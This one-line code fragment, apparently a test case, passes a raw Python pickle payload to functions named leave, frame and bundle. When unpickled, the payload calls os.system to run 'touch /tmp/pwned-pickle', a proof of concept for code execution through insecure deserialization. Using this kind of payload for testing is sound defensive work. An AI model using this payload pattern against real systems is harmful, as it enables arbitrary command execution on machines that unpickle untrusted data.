leave(frame(bundle(b"cos\nsystem\n(S'touch /tmp/pwned-pickle'\ntR.")))
